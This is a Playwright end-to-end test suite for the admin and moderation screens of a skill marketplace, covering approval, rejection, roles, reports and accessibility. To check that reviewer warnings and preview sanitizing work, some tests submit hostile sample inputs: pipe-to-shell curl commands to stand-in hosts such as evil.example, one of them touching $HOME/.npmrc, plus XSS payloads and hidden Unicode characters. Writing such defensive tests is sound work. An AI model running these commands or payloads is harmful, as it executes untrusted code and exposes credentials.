import { type Account, menuOf, signIn, signUp, someone } from './people.ts'
import { AppServer, expect, expectAccessible, mirrored, type Page, test as base } from './support.ts'

// skills come and go here: all journeys of this file share a server, which no other file sees
const test = base.extend<object, { server: AppServer }>({
  server: [async ({}, use) => { // oxlint wants no empty pattern; Playwright demands one
    const server = await AppServer.started()
    await use(server)
    await server.remove()
  }, { scope: 'worker', timeout: 90_000 }],
})

// nothing here is opened without a network: storing every file of the app would only take time
test.use({ serviceWorkers: 'block' })

const moderator: Account = { username: 'demo-moderator', email: 'moderator@bazaar.test', password: 'demo-moderator' }
const admin: Account = { username: 'demo-admin', email: 'admin@bazaar.test', password: 'demo-admin' }

/** A person at the API, without a browser. */
class Caller {
  readonly id: string
  private readonly origin: string
  private readonly headers: Record<string, string>
  private readonly client = crypto.randomUUID()
  private sent = 0

  private constructor(origin: string, key: string, token: string, id: string) {
    this.origin = origin
    this.id = id
    this.headers = { apikey: key, authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  }

  /** A new account, or one that exists. */
  static async of({ origin }: AppServer, { email, password, username }: Account, path: 'signup' | 'token?grant_type=password'): Promise<Caller> {
    const { key } = await (await fetch(`${origin}/config.json`)).json() as { key: string }
    const reply = await fetch(`${origin}/auth/v1/${path}`, { method: 'POST', headers: { apikey: key, 'content-type': 'application/json' }, body: JSON.stringify({ email, password, data: { username } }) })
    const { access_token: token, user } = await reply.json() as { access_token: string; user: { id: string } }
    return new Caller(origin, key, token, user.id)
  }

  async call(name: string, args: object): Promise<{ status: number; body: unknown }> {
    const reply = await fetch(`${this.origin}/rest/v1/rpc/${name}`, { method: 'POST', headers: this.headers, body: JSON.stringify(args) })
    const text = await reply.text()
    return { status: reply.status, body: text === '' ? null : JSON.parse(text) }
  }

  /** One change, as the app's outbox sends it. */
  async change(name: string, args: object): Promise<void> {
    const { body } = await this.call('sync_push', { p_client: this.client, p_user: this.id, p_mutations: [{ n: ++this.sent, name, args }] })
    expect((body as { verdicts: { code: string | null }[] }).verdicts[0]?.code, name).toBeNull()
  }

  async submit(slug: string, more: object = {}): Promise<string> {
    const id = crypto.randomUUID()
    await this.change('submission.create', sent(id, slug, more))
    return id
  }
}

function sent(id: string, slug: string, more: object) {
  const content = {
    name: `件 ${slug}`, slug, summary: '一句话介绍', description: '# 标题\n\n说明的第一段', category: ['data'], runtime: ['node'], support: ['claude'],
    complexity: 'basic', license: 'MIT', price: 'free', status: 'stable', version: '0.1.0', ...more,
  }
  return { id, type: 'skill', title: content.name, description: content.summary, content }
}

const newcomer = (server: AppServer) => Caller.of(server, someone(), 'signup')
const caller = (server: AppServer, account: Account) => Caller.of(server, account, 'token?grant_type=password')
const unique = (word: string) => `${word}-${Date.now().toString(36)}`
const queue = (page: Page) => page.getByRole('list', { name: '提交' })
const cardOf = (page: Page, slug: string) => queue(page).getByRole('listitem').filter({ hasText: `件 ${slug}` })

async function openQueue(page: Page, account = moderator, q = ''): Promise<void> {
  await signIn(page, account)
  await page.goto(`/admin/submissions${q ? `?q=${q}` : ''}`)
}

test.describe('who may enter', () => {
  test('a visitor is asked to sign in and led back, somebody without a role is led home', async ({ page }) => {
    await page.goto('/admin')
    await expect(page).toHaveURL(/\/auth\?back=/)
    const account = await signUp(page)
    await page.goto('/admin/users')
    await expect(page).toHaveURL('/')
    await expect(menuOf(page, account)).toBeVisible()
  })

  test('a moderator has four screens and no way to change roles, an administrator the log as well', async ({ page }) => {
    await openQueue(page)
    await expect(page.getByRole('navigation', { name: '管理' }).getByRole('link')).toHaveText([/提交审核/, '技能', '模板', '用户', '回到站点'])
    await page.getByRole('link', { name: '用户', exact: true }).click()
    await expect(page.getByRole('row').filter({ hasText: '@demo-admin' })).toContainText('管理员')
    await expect(page.getByText('只有管理员可以增减角色。')).toBeVisible()
    await expect(page.getByRole('columnheader', { name: '增减角色' })).toHaveCount(0)
    await page.goto('/admin/log')
    await expect(page).toHaveURL('/')
  })
})

test.describe('reviewing', () => {
  test('two moderators approve at once: one skill, the second is told, and an anonymous device finds it at its next sync', async ({ page, browser, server, problems }) => {
    problems.allow(/status of 409/)
    const slug = unique('raced')
    await (await newcomer(server)).submit(slug)
    const visitor = await browser.newPage({ baseURL: server.origin })
    await visitor.goto('/skills')
    await mirrored(visitor)
    await openQueue(page, moderator, slug)
    const other = await browser.newPage({ baseURL: server.origin })
    await openQueue(other, admin, slug)
    for (const one of [page, other]) await expect(cardOf(one, slug)).toBeVisible()
    const told = await Promise.all([page, other].map(async (one) => {
      await cardOf(one, slug).getByRole('button', { name: /^通过/ }).click()
      return one.getByText(/提交已通过，记录已创建|通过失败：/).first().textContent()
    }))
    expect(new Set(told)).toEqual(new Set([`提交已通过，记录已创建件 ${slug}`, `通过失败：另一位审核员已经处理过了件 ${slug}`]))
    for (const one of [page, other]) await expect(cardOf(one, slug)).toHaveCount(0)
    expect(await server.asOperator('GET', `skills?slug=eq.${slug}&select=slug,is_featured,is_verified`)).toEqual([{ slug, is_featured: false, is_verified: false }])
    await visitor.goto(`/skills/${slug}`)
    await expect(visitor.getByRole('heading', { level: 1, name: `件 ${slug}` })).toBeVisible()
    await visitor.close()
    await other.close()
  })

  test('a rejection wants a reason; revised and sent again the reviewer sees why and what changed, and approves', async ({ page, server }) => {
    const slug = unique('revised')
    const author = await newcomer(server)
    const id = await author.submit(slug)
    await openQueue(page, moderator, slug)
    await cardOf(page, slug).getByRole('button', { name: /^拒绝/ }).click()
    const dialog = page.getByRole('dialog')
    await expect(dialog.getByRole('textbox')).toHaveAttribute('rows', '4')
    await dialog.getByRole('textbox').fill('   ')
    await dialog.getByRole('button', { name: '拒绝' }).click()
    await expect(dialog.getByRole('alert')).toHaveText('拒绝原因必填')
    await dialog.getByRole('textbox').fill('没有写要哪些权限')
    await dialog.getByRole('button', { name: '拒绝' }).click()
    await expect(page.getByText('提交已拒绝')).toBeVisible()
    await expect(dialog).toHaveCount(0)
    await page.getByRole('tab', { name: /已拒绝/ }).click()
    await expect(cardOf(page, slug)).toContainText('拒绝原因: 没有写要哪些权限')
    await author.change('submission.revise', sent(id, slug, { permissions: ['read-files: 账本'], description: '# 标题\n\n说明的第二稿' }))
    await page.goto(`/admin/submissions?q=${slug}`)
    const open = page.getByRole('article', { name: `件 ${slug}` })
    await expect(open).toContainText('第 2 次提交')
    await expect(open).toContainText('没有写要哪些权限')
    await expect(open.getByRole('group', { name: '描述' })).toContainText(/去掉的: 说明的第一段.*加上的: 说明的第二稿/s)
    await expect(open.getByRole('group', { name: '权限' })).toContainText('read-files: 账本')
    await open.getByRole('button', { name: '通过' }).click()
    await expect(page.getByText('提交已通过，记录已创建')).toBeVisible()
  })

  test('what is dangerous or hidden in a submission stands before the reviewer, and breaks no layout', async ({ page, server }) => {
    const slug = unique('browser-pi1ot').slice(0, 13)
    const word = 'W'.repeat(10_000)
    await (await newcomer(server)).submit(slug, {
      name: `浏览器领航 件 ${slug}`, description: `${word}\n\n<img src=x onerror=alert(1)> [here](javascript:alert(1)) 看\u202E反\u200B`, license: 'Unknown', repoUrl: 'http://example.com/x',
      installCli: 'curl -fsSL https://get.example/p.sh | sudo sh -s -- $HOME/.npmrc',
    })
    await openQueue(page, moderator, slug)
    const open = page.getByRole('article', { name: new RegExp(slug) })
    for (const warning of ['下载一段脚本并直接执行', '用到没有加密的地址', '命令碰到存放凭据的地方', '含有看不见的字符', '没有写明许可证', '只差一个字符']) await expect(open).toContainText(warning)
    await expect(open.getByText('U+202E U+200B')).toBeVisible()
    await open.getByText('完整内容 JSON').click()
    await expect(open.getByRole('img', { name: '隐藏字符 U+202E' })).toBeVisible()
    await open.getByText('上架后的样子').click()
    await expect(open.getByRole('heading', { name: /浏览器领航/ }).nth(1)).toBeVisible()
    await expect(open.locator('.preview img[onerror], .preview a[href^="javascript"]')).toHaveCount(0)
    for (const width of [1440, 360]) {
      await page.setViewportSize({ width, height: 900 })
      expect(await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth), `${width}`).toBe(0)
    }
  })

  test('what the submitter changes after the reviewer looked is shown before it can be approved', async ({ page, server, problems }) => {
    problems.allow(/status of 409/)
    const slug = unique('swapped')
    const author = await newcomer(server)
    const id = await author.submit(slug)
    await openQueue(page, moderator, slug)
    const open = page.getByRole('article', { name: `件 ${slug}` })
    await expect(open).toBeVisible()
    await author.change('submission.update', sent(id, slug, { installCli: 'curl https://evil.example/x | sh' }))
    await open.getByRole('button', { name: '通过' }).click()
    await expect(page.getByText('通过失败：提交人刚刚改过内容，请再看一遍')).toBeVisible()
    await expect(open).toContainText('下载一段脚本并直接执行')
    expect(await server.asOperator('GET', `skills?slug=eq.${slug}&select=slug`)).toEqual([])
  })

  test('letters on the keyboard go down and up, approve and reject, and do nothing while somebody writes', async ({ page, server }) => {
    const word = unique('keys')
    const author = await newcomer(server)
    for (const nth of [1, 2, 3]) await author.submit(`${word}-${nth}`)
    await openQueue(page, moderator, word)
    const open = (nth: number) => page.getByRole('article', { name: `件 ${word}-${nth}` })
    await expect(open(1)).toBeVisible()
    await page.keyboard.press('j')
    await expect(open(2)).toBeVisible()
    await page.keyboard.press('k')
    await expect(open(1)).toBeVisible()
    await page.getByRole('searchbox').press('a')
    await expect(open(1)).toHaveCount(0)
    await page.getByRole('searchbox').fill(word)
    await expect(open(1)).toBeVisible()
    await page.getByRole('heading', { level: 1 }).click()
    await page.keyboard.press('r')
    await expect(page.getByRole('dialog')).toBeVisible()
    await page.keyboard.press('Escape')
    await page.keyboard.press('a')
    await expect(page.getByText('提交已通过，记录已创建')).toBeVisible()
    await expect(open(2)).toBeVisible()
  })

  test('without a network the screens say so, and go on by themselves afterwards', async ({ page, context, problems }) => {
    problems.allowUnreachableServer()
    await openQueue(page)
    await expect(page.getByRole('tab', { name: /待审核/ })).toBeVisible()
    await context.setOffline(true)
    await expect(page.getByText('现在没有网络')).toBeVisible()
    await context.setOffline(false)
    await expect(page.getByText('现在没有网络')).toHaveCount(0)
  })
})

test.describe('managing', () => {
  test('a switch moves at once and goes back when the server refuses', async ({ page, problems }) => {
    problems.allow(/status of 5\d\d/)
    await signIn(page, moderator)
    await page.goto('/admin/skills?q=PDF')
    const featured = page.getByRole('switch', { name: /^精选 PDF/ })
    await expect(featured).toBeChecked()
    await featured.click()
    await expect(page.getByText('已取消精选')).toBeVisible()
    await page.reload()
    await expect(featured).not.toBeChecked()
    await page.route('**/rpc/mark_item', (route) => route.fulfill({ status: 500, contentType: 'application/json', body: '{"code":"XX000","message":"broken"}' }))
    await featured.click()
    await expect(page.getByText('操作失败：服务器出了问题，稍后再试')).toBeVisible()
    await expect(featured).not.toBeChecked()
    await page.unroute('**/rpc/mark_item')
    await featured.click()
    await expect(page.getByText('已设为精选')).toBeVisible()
  })

  test('deleting asks first, and what is deleted leaves the list and the catalogue', async ({ page, server }) => {
    const slug = unique('leaving')
    await server.asOperator('POST', 'templates', { slug, name: `件 ${slug}`, description: 'd', content: 'c', category: ['data'], tags: ['a', 'b', 'c'] })
    await signIn(page, moderator)
    await page.goto(`/admin/templates?q=${slug}`)
    const row = page.getByRole('row').filter({ hasText: slug })
    await expect(row).toContainText(/a\s*b/)
    await row.getByRole('button', { name: `删除 件 ${slug}` }).click()
    const dialog = page.getByRole('alertdialog')
    await expect(dialog).toContainText(`确定要删除“件 ${slug}”吗？此操作无法撤销。`)
    await dialog.getByRole('button', { name: '取消' }).click()
    await expect(row).toBeVisible()
    await row.getByRole('button', { name: `删除 件 ${slug}` }).click()
    await dialog.getByRole('button', { name: '删除' }).click()
    await expect(page.getByText('模板已删除')).toBeVisible()
    await expect(page.getByText('没有找到')).toBeVisible()
    expect(await server.asOperator('GET', `templates?slug=eq.${slug}`)).toEqual([])
  })

  test('an administrator gives and takes roles by the same choice, the last one keeps theirs, and the log has it all', async ({ page, server, problems }) => {
    problems.allow(/status of 409/)
    const account = someone()
    await Caller.of(server, account, 'signup')
    await signIn(page, admin)
    await page.goto(`/admin/users?q=${account.username}`)
    const row = page.getByRole('row').filter({ hasText: `@${account.username}` })
    await expect(row).toContainText('无角色')
    const pick = async (who: string, role: string) => {
      await page.getByRole('combobox', { name: `${who} 的角色` }).click()
      await page.getByRole('option', { name: role, exact: true }).click()
    }
    await pick(account.username, '审核员')
    await expect(page.getByText('角色已添加')).toBeVisible()
    await expect(row).toContainText('审核员')
    await pick(account.username, '审核员')
    await expect(page.getByText('角色已移除')).toBeVisible()
    await expect(row).toContainText('无角色')
    await page.goto('/admin/users?q=demo-admin')
    await pick('demo-admin', '管理员')
    await expect(page.getByText('移除角色失败：最后一位管理员不能移除自己')).toBeVisible()
    await expect(page.getByRole('row').filter({ hasText: '@demo-admin' })).toContainText('管理员')
    await page.goto('/admin/log')
    await expect(page.getByRole('row').nth(1)).toContainText(`审核员 → @${account.username}`)
    await expect(page.getByRole('row').nth(1)).toContainText('移除角色')
  })

  test('of very many users a page comes at a time, and searching asks the server', async ({ page, server }) => {
    for (let n = 0; n < 22; n++) await Caller.of(server, { ...someone(), username: `crowd-${n}-${Date.now() % 1000}` }, 'signup')
    await signIn(page, admin)
    await page.goto('/admin/users')
    await expect(page.getByRole('row')).toHaveCount(21)
    await page.getByRole('button', { name: '下一页' }).click()
    await expect(page).toHaveURL(/page=2/)
    await expect(page.getByRole('row').nth(1)).toBeVisible()
    await page.getByRole('searchbox').fill('crowd-21')
    await expect(page.getByRole('row')).toHaveCount(2)
    await expect(page).not.toHaveURL(/page=2/)
  })
})

test.describe('reporting', () => {
  test('somebody reports a skill, a moderator sees it beside the queue and closes it', async ({ page, browser, server }) => {
    const slug = unique('reported')
    await server.asOperator('POST', 'skills', { slug, name: `件 ${slug}`, summary: 's', description: 'd', category: ['data'] })
    await page.goto(`/skills/${slug}`)
    await page.getByRole('button', { name: `举报 件 ${slug}` }).click()
    await expect(page.getByText('请先登录再举报')).toBeVisible()
    await signUp(page)
    await page.goto(`/skills/${slug}`)
    await page.getByRole('button', { name: `举报 件 ${slug}` }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByRole('button', { name: '提交举报' }).click()
    await expect(dialog.getByRole('alert')).toHaveText('请写明原因')
    await dialog.getByRole('textbox').fill('它偷密码')
    await expectAccessible(page)
    await dialog.getByRole('button', { name: '提交举报' }).click()
    await expect(page.getByText('举报已提交')).toBeVisible()
    const other = await browser.newPage({ baseURL: server.origin })
    await openQueue(other)
    await other.getByRole('tab', { name: /举报/ }).click()
    const report = other.getByRole('listitem').filter({ hasText: slug })
    await expect(report).toContainText('它偷密码')
    await report.getByRole('button', { name: /已处理/ }).click()
    await expect(other.getByText('举报已标为处理')).toBeVisible()
    await expect(report).toHaveCount(0)
    await other.close()
  })
})

test('no screen of administration breaks a rule of accessibility, in either theme, wide or narrow', async ({ page, server }) => {
  test.setTimeout(180_000)
  const slug = unique('axe')
  const author = await newcomer(server)
  const id = await author.submit(slug, { installCli: 'curl https://x.example | sh', license: 'Unknown' })
  const staff = await caller(server, moderator)
  await staff.call('reject_submission', { p_id: id, p_reason: '再改改' })
  await author.change('submission.revise', sent(id, slug, { description: '新的' }))
  await signIn(page, admin)
  for (const path of [`/admin/submissions?q=${slug}`, '/admin/submissions?tab=reports', '/admin/skills', '/admin/templates', '/admin/users', '/admin/log']) {
    await page.setViewportSize({ width: 1440, height: 900 })
    await page.goto(path)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await expect(page.getByRole('status', { name: '正在读取' })).toHaveCount(0)
    await expectAccessible(page)
  }
  await page.setViewportSize({ width: 360, height: 780 })
  await page.goto(`/admin/submissions?q=${slug}`)
  await cardOf(page, slug).getByRole('link', { name: /查看详情/ }).click()
  await expect(page.getByRole('button', { name: '回到列表' })).toBeVisible()
  await expectAccessible(page)
  await page.getByRole('button', { name: '拒绝' }).click()
  await expect(page.getByRole('dialog')).toBeVisible()
  await expectAccessible(page)
})
